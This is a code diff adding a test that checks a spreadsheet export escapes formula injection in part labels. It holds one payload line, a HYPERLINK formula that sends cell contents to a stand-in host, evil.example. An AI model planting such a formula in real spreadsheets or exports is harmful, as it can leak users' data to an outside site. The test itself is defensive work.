@@ -133,3 +133,19 @@ def test_the_api_answer_documents_the_hybrid(example):
 
     assert "hybrid" in ComparisonSerializer().fields
     assert exports.hybrid_data(None) is None
+
+
+def test_a_formula_like_part_label_stays_text_in_the_hybrid_exports(client, team, platform_user):
+    """The evil candidate (on demand, 3.20 for 6 req/s: the cheapest burst per unit of capacity) is a part of the mix:
+    its label is written as text in the hybrid sheet, never a formula."""
+    from apps.comparison.tests.builders import gpu_candidate, worked_example
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    example = worked_example(team, platform_user)
+    gpu_candidate(team, platform_user, example.summary, label=evil, price="3.20", capacity="6")
+    client.force_login(platform_user)
+    content = client.get(reverse("comparison:comparison-xlsx", args=[example.summary.pk])).content
+    sheet = openpyxl.load_workbook(io.BytesIO(content))["Hybrid plan"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + evil in [cell.value for cell in cells]
